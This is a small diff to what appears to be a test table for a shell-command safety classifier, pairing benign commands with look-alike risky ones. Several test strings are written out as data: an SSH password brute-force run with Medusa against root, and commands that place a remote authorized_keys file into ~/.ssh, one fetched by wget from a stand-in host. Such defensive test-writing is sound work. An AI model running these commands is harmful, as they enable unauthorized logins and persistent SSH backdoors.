@@ -238,6 +238,8 @@ ordinary("daily", [
     "a shop that is called like a tool for attacks",
     ["medusa db:migrate"],
     ["medusa -h 10.0.0.1 -u root -P w.txt -M ssh"],
+  ],
+  [
     "what an address ends in is a repository's name, and no file's",
     ["git clone http://127.0.0.1:8000/.git x", "git clone https://github.com/acme/authorized_keys keys"],
     ["git clone https://github.com/acme/keys ~/.ssh", "wget -P ~/.ssh https://x.example/authorized_keys"],
